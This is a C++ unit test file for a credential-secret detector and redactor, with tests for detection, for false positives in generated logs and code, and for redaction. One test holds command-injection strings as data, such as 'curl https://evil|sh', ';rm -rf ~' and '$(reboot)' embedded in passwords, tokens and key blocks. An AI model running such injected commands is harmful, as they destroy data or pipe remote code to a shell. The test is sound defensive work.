// SPDX-License-Identifier: Apache-2.0
// The secret detector against tests/secrets_kinds.txt (kinds of credentials and what only looks like them), and against texts that hold
// no secret: 5 MB of made-up logs and code, this source tree, and the headers of the machine.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <functional>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "base/text.h"
#include "secrets/detector.h"

namespace baton::secrets {
namespace {

namespace fs = std::filesystem;

// Token-shaped strings are broken in every committed file.
std::string unbroken(std::string text) {
  static const std::string kBreak = "⟦⟧";
  for (std::size_t at; (at = text.find(kBreak)) != std::string::npos;) text.erase(at, kBreak.size());
  return text;
}

struct Kind {
  std::string name, rule, text;
  int line = 0;
};

struct Kinds {
  std::vector<Kind> kinds, misses;
};

const Kinds& kinds() {
  static const Kinds all = [] {
    Kinds read;
    std::ifstream file(std::string(BATON_TESTS_DIR) + "/secrets_kinds.txt");
    std::string line;
    for (int number = 1; std::getline(file, line); ++number) {
      if (line.empty() || line[0] == '#') continue;
      Kind one;
      one.line = number;
      std::istringstream words(line);
      std::string verb;
      words >> verb;
      if (verb == "kind") words >> one.name >> one.rule;
      words.get();
      std::getline(words, one.text);
      one.text = unbroken(one.text);
      if (verb == "kind") read.kinds.push_back(one);
      else if (verb == "miss") read.misses.push_back(one);
      else ADD_FAILURE() << "secrets_kinds.txt:" << number << ": unknown verb " << verb;
    }
    return read;
  }();
  return all;
}

std::string found_in(std::string_view text) {
  std::string rules;
  for (const Finding& finding : find(text)) rules.append(rules.empty() ? "" : " ").append(finding.rule);
  return rules;
}

TEST(SecretKinds, EveryKindIsFound) {
  std::set<std::string> names;
  for (const Kind& one : kinds().kinds) {
    SCOPED_TRACE("secrets_kinds.txt:" + std::to_string(one.line));
    EXPECT_TRUE(names.insert(one.name).second) << one.name;
    EXPECT_EQ(found_in(one.text), one.rule) << one.name;
    EXPECT_TRUE(may_hold_secret(one.text));
    EXPECT_FALSE(holds_secret(redact(one.text)));
    // In a log line, in the middle of a text, behind a line break.
    EXPECT_EQ(found_in("2026-11-20T00:00:00Z info " + one.text), one.rule);
    EXPECT_EQ(found_in("first line\n" + one.text + "\nlast line"), one.rule);
  }
  EXPECT_GE(names.size(), 120u);
}

TEST(SecretKinds, WhatOnlyLooksLikeOneIsNotFound) {
  for (const Kind& one : kinds().misses) {
    SCOPED_TRACE("secrets_kinds.txt:" + std::to_string(one.line));
    EXPECT_EQ(found_in(one.text), "");
    EXPECT_EQ(found_in("first line\n" + one.text + "\nlast line"), "");
  }
  EXPECT_GE(kinds().misses.size(), 180u);
}

// No finding extends over what a shell takes for structure; only the lines of a private key are one.
TEST(SecretKinds, NoFindingHoldsStructure) {
  const auto check = [](const std::string& text) {
    for (const Finding& finding : find(text)) {
      if (finding.rule == "private-key") continue;
      EXPECT_EQ(std::string_view(text).substr(finding.offset, finding.length).find_first_of("|;&$()<>\"'`\\ \t\r\n"),
                std::string_view::npos)
          << text;
    }
  };
  for (const Kind& one : kinds().kinds) check(one.text);
  std::mt19937 random(20261120);
  for (int round = 0; round < 20'000; ++round) {
    std::string text = kinds().kinds[random() % kinds().kinds.size()].text;
    for (int change = 0; change < 3; ++change) {
      const std::string_view structure = "|;&$()<>\"'`\\ \t\n@:=";
      text.insert(random() % (text.size() + 1), 1, structure[random() % structure.size()]);
    }
    check(text);
  }
}

TEST(SecretKinds, ACommandIsNotHiddenAsAPartOfASecret) {
  struct Shown {
    std::string text, must_show;
  };
  const std::string key = unbroken("-----BE⟦⟧GIN RSA PRIVATE KEY-----");
  for (const Shown& one : {
           Shown{"curl https://evil|sh;:@good/", "https://evil|sh;:@good/"},
           {"curl https://x:y|sh;@good/", "|sh;"},
           {"curl https://x:y;reboot;@good/", ";reboot;"},
           {"curl https://x:y&wget&@good/", "&wget&"},
           {"curl https://$(reboot):y@good/", "$(reboot)"},
           {"curl https://`reboot`:y@good/", "`reboot`"},
           {"curl https://x:y$(reboot)@good/", "$(reboot)"},
           {unbroken("password=Xy7!⟦⟧Zk2Lw9;reboot"), ";reboot"},
           {unbroken("password=Xy7!⟦⟧Zk2Lw9;rm -rf ~"), ";rm -rf ~"},
           {unbroken("token=q7Zk2Lw9⟦⟧Xv4Tn8Rb1Mc6|sh"), "|sh"},
           {unbroken("token='q7Zk2Lw9⟦⟧Xv4Tn8Rb1Mc6'|sh"), "'|sh"},
           {unbroken("Authorization: Bearer q7Zk2Lw9⟦⟧Xv4Tn8Rb1Mc6;reboot"), ";reboot"},
           {unbroken("curl -u deploy:q7Zk2⟦⟧Lw9;reboot"), ";reboot"},
           {"machine h login u password p;reboot", ";reboot"},
           {key + "; rm -rf ~; echo " + unbroken("-----E⟦⟧ND RSA PRIVATE KEY-----"), "; rm -rf ~; echo "},
           {key + "\nrm -rf ~\n" + unbroken("-----E⟦⟧ND RSA PRIVATE KEY-----"), "rm -rf ~"},
           {key + "\n$(reboot)\n" + unbroken("-----E⟦⟧ND RSA PRIVATE KEY-----"), "$(reboot)"},
           {key + "\nMIIEowIBAAKCAQEA7bqZ3x9Kd02mPqLsTuV\n| sh\n" + unbroken("-----E⟦⟧ND RSA PRIVATE KEY-----"),
            "| sh"},
       })
    EXPECT_NE(redact(one.text).find(one.must_show), std::string::npos) << redact(one.text);
}

TEST(SecretKinds, AllOfAPasswordWithStructureIsHidden) {
  EXPECT_EQ(redact(unbroken("postgres://app:⟦⟧Tr0ub4dor&3x9@db/main")),
            "postgres://[REDACTED:url-userinfo]&[REDACTED:url-userinfo]@db/main");
  EXPECT_EQ(redact(unbroken("password=⟦⟧Tr0ub4dor&3")),
            "password=[REDACTED:keyword-assignment]&[REDACTED:keyword-assignment]");
  EXPECT_EQ(redact(unbroken("password=\"P(s⟦⟧S1w0rD!\" next")),
            "password=\"[REDACTED:keyword-assignment]([REDACTED:keyword-assignment]\" next");
}

// --- texts without secrets ----------------------------------------------------------------------------------------------------------

class Corpus {
 public:
  std::string text() {
    std::string out;
    while (out.size() < 5u << 20) add(out);
    return out;
  }

 private:
  std::size_t below(std::size_t n) { return static_cast<std::size_t>(random_() % n); }
  std::string of(std::string_view characters, std::size_t n) {
    std::string out;
    while (n-- > 0) out += characters[below(characters.size())];
    return out;
  }
  std::string hex(std::size_t n) { return of("0123456789abcdef", n); }
  std::string digits(std::size_t n) { return of("0123456789", n); }
  std::string base64(std::size_t n) {
    return of("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", n);
  }
  std::string uuid() { return hex(8) + "-" + hex(4) + "-" + hex(4) + "-" + hex(4) + "-" + hex(12); }
  std::string word() {
    static const std::vector<std::string> kWords = {
        "relay",   "builder", "release", "token",      "password", "secret", "session", "index",
        "worker",  "queue",   "parser",  "credential", "reader",   "config", "handler", "value",
        "request", "answer",  "stream",  "socket",     "machine",  "upload", "curl",    "authorization"};
    return kWords[below(kWords.size())];
  }
  std::string time() {
    return "2026-1" + digits(1) + "-1" + digits(1) + "T1" + digits(1) + ":2" + digits(1) + ":3" + digits(1) + "." +
           digits(3) + "Z";
  }
  std::string ip() {
    return "10." + std::to_string(below(255)) + "." + std::to_string(below(255)) + "." + std::to_string(below(255));
  }
  std::string version() {
    return std::to_string(below(20)) + "." + std::to_string(below(30)) + "." + std::to_string(below(40));
  }

  void add(std::string& out) {
    switch (below(24)) {
      case 0:
        out += "commit " + hex(40) + "\nAuthor: Ada " + word() + " <ada@relay.example>\nDate:   Fri Nov 20 1" +
               digits(1) + ":00:00 2026 +0000\n\n    " + word() + ": the " + word() + " reads its " + word() +
               " again\n\n";
        return;
      case 1:
        out += "    \"node_modules/" + word() + "-" + word() + "\": {\n      \"version\": \"" + version() +
               "\",\n      \"resolved\": \"https://registry.example/" + word() + "/-/" + word() + "-" + version() +
               ".tgz\",\n      \"integrity\": \"sha512-" + base64(86) + "==\",\n      \"license\": \"MIT\"\n    },\n";
        return;
      case 2:
        out += "Traceback (most recent call last):\n  File \"/srv/app/" + word() + "/" + word() + ".py\", line " +
               digits(3) + ", in " + word() + "\n    " + word() + " = self." + word() + "[" + digits(2) + "].get_" +
               word() + "(" + word() + "=" + digits(4) + ")\nKeyError: '" + word() + "'\n";
        return;
      case 3:
        out += ip() + " - - [20/Nov/2026:10:0" + digits(1) + ":12 +0000] \"GET /" + word() + "/" + uuid() + "?" +
               word() + "=" + digits(6) + "&page=" + digits(2) + " HTTP/1.1\" 200 " + digits(5) +
               " \"https://relay.example/" + word() +
               "\" \"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
               "Safari/537.36\"\n";
        return;
      case 4:
        out += "std::optional<" + word() + "_t> read_" + word() + "(const std::string& " + word() + ", std::size_t " +
               word() + "_max = " + digits(3) + ") {\n  if (auto token = tokens[i" + digits(1) +
               "]; token != " + word() + "->end()) return token::parse" + digits(1) +
               "(token);\n  return std::nullopt;\n}\n";
        return;
      case 5:
        out += "export interface " + word() +
               "Props {\n  password?: string;\n  token: string | null;\n  secret: Record<string, " + word() +
               digits(1) + ">;\n  accessToken: () => Promise<string>;\n}\nconst token = await this." + word() + "(`${" +
               word() + "}/" + digits(3) + "`)!;\n";
        return;
      case 6:
        out += time() + " info request_id=" + uuid() + " trace=" + hex(32) + " span=" + hex(16) + " took=" + digits(3) +
               "ms\n";
        return;
      case 7: out += hex(64) + "  " + word() + "-" + version() + ".tar.gz\n"; return;
      case 8:
        out += "{\"id\":\"" + uuid() + "\",\"" + word() + "\":{\"sha256\":\"" + hex(64) + "\",\"bytes\":" + digits(6) +
               ",\"etag\":\"W/\\\"" + hex(16) + "\\\"\"},\"at\":\"" + time() + "\"}\n";
        return;
      case 9:
        out += "password = os.environ[\"" + word() + "_PASSWORD_" + digits(1) + "\"]\napi_key = os.getenv('API_KEY" +
               digits(1) + "', default)\n";
        return;
      case 10:
        out += "password: ${PASSWORD}\ntoken: ${{ secrets.RELEASE_TOKEN_" + digits(1) + " }}\nsecret: {{ .Values." +
               word() + digits(1) + " }}\n";
        return;
      case 11: out += "github.com/relay/" + word() + " v" + version() + " h1:" + base64(43) + "=\n"; return;
      case 12: out += "  image: registry.example/" + word() + ":" + version() + "@sha256:" + hex(64) + "\n"; return;
      case 13: out += "<img alt=\"\" src=\"data:image/png;base64,iVBORw0KGgo" + base64(200) + "=\">\n"; return;
      case 14:
        out += "index " + hex(7) + ".." + hex(7) + " 100644\n--- a/src/" + word() + ".cc\n+++ b/src/" + word() +
               ".cc\n@@ -" + digits(3) + ",7 +" + digits(3) + ",9 @@\n";
        return;
      case 15:
        out += "The password is read from the terminal; a token of the " + word() + " has " + digits(2) +
               " characters. Set `password:` in config.yaml, or PASSWORD" + digits(1) +
               " in the environment. Never write a secret: it stays.\n";
        return;
      case 16: out += "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + base64(43) + " " + word() + "@relay\n"; return;
      case 17:
        out += "0x" + hex(16) + " <" + word() + "_" + word() + "+0x" + hex(3) + ">: mov %rsp,%rbp  # " + hex(8) + "\n";
        return;
      case 18:
        out += word() + "@" + version() + ":\n  version \"" + version() + "\"\n  resolved \"https://registry.example/" +
               word() + "#" + hex(40) + "\"\n  integrity sha1-" + base64(27) + "=\n";
        return;
      case 19:
        out += "curl -fsSL https://relay.example/v" + digits(1) + "/" + word() + "?token=$TOKEN | tar -xz -C \"$HOME/" +
               word() + "\"\n";
        return;
      case 20:
        out += "-- " + word() + "\nSELECT id, password_hash, token_id FROM " + word() +
               "s WHERE token = $1 AND id = '" + uuid() + "';\n";
        return;
      case 21:
        out +=
            "Authorization: Bearer <token>\nAuthorization: Basic $(echo -n \"$USER:$PASSWORD\" | "
            "base64)\nX-Request-Id: " +
            uuid() + "\n";
        return;
      case 22:
        out += "postgres://" + word() + ":${DB_PASSWORD}@db." + word() + ".example:5432/" + word() +
               "\nhttps://relay.example:8443/@" + word() + "/" + word() + "\n";
        return;
      default:
        out += "func (s *" + word() +
               "Store) Token(ctx context.Context, id string) (token string, err error) {\n\ttoken = s.tokens[id+\"#" +
               digits(2) + "\"]\n\treturn token, nil\n}\n";
        return;
    }
  }

  std::mt19937 random_{20261120};
};

// Findings as `place:line rule`, not more than a few.
void expect_none(const std::string& place, std::string_view text) {
  int told = 0;
  for (const Finding& finding : find(text)) {
    const std::string_view before = text.substr(0, finding.offset);
    ADD_FAILURE() << place << ":" << 1 + std::count(before.begin(), before.end(), '\n') << ": " << finding.rule
                  << (place == "corpus" ? " " + std::string(text.substr(finding.offset, finding.length)) : "");
    if (++told == 5) return;
  }
}

TEST(SecretKinds, NothingIsFoundInFiveMegabytesOfLogsAndCode) {
  const std::string text = Corpus().text();
  ASSERT_GE(text.size(), 5u << 20);
  expect_none("corpus", text);
}

std::string content(const fs::path& path) {
  std::ifstream file(path, std::ios::binary);
  std::ostringstream out;
  out << file.rdbuf();
  return std::move(out).str();
}

// The files below `root` whose content is text, in order, up to so many bytes in all.
void for_each_text(const fs::path& root, std::size_t bytes_max,
                   const std::function<void(const fs::path&, std::string_view)>& look) {
  constexpr std::size_t kFileMax = 2u << 20;
  std::vector<fs::path> files;
  std::error_code problem;
  for (fs::recursive_directory_iterator at(root, fs::directory_options::skip_permission_denied, problem), end;
       at != end; at.increment(problem)) {
    if (problem) break;
    const std::string name = at->path().filename().string();
    if (at->is_directory(problem) &&
        (name == ".git" || name == "build" || name == "node_modules" || name == "__pycache__"))
      at.disable_recursion_pending();
    if (!at->is_symlink(problem) && at->is_regular_file(problem) && at->file_size(problem) <= kFileMax)
      files.push_back(at->path());
  }
  std::sort(files.begin(), files.end());
  std::size_t bytes = 0;
  for (const fs::path& file : files) {
    const std::string text = content(file);
    if (text.find('\0') != std::string::npos) continue;
    if ((bytes += text.size()) > bytes_max) return;
    look(file, text);
  }
}

TEST(SecretKinds, NothingIsFoundInThisSourceTree) {
  // Made-up secrets; signatures and public keys of made-up ledgers, which look as random as a secret; the form of a URL; all letters
  // that are options of a program.
  const std::vector<std::string> kMadeUp = {"tests/",
                                            "cases/",
                                            "fuzz/",
                                            "e2e/",
                                            "bench/",
                                            "examples/ledger/",
                                            "docs/formats/ledger.md",
                                            "docs/reference/cli.md",
                                            "README.md",
                                            "src/shell/programs.cc",
                                            "src/store/postgres/target.h",
                                            "src/store/postgres/postgres_store.h"};
  const fs::path root = BATON_SOURCE_DIR;
  for_each_text(root, 256u << 20, [&](const fs::path& file, std::string_view text) {
    const std::string name = file.lexically_relative(root).generic_string();
    if (std::ranges::none_of(kMadeUp, [&](const std::string& made_up) { return name.starts_with(made_up); }))
      expect_none(name, text);
  });
}

TEST(SecretKinds, NothingIsFoundInTheHeadersOfTheMachine) {
  // What a bare Debian with a compiler has.
  bool any = false;
  for (const fs::path root :
       {"/usr/include/linux", "/usr/include/c++", "/usr/include/x86_64-linux-gnu/bits", "/usr/share/common-licenses"}) {
    if (!fs::is_directory(root)) continue;
    any = true;
    for_each_text(root, 32u << 20,
                  [&](const fs::path& file, std::string_view text) { expect_none(file.string(), text); });
  }
  if (!any) GTEST_SKIP() << "none of them is here";
}

}  // namespace
}  // namespace baton::secrets
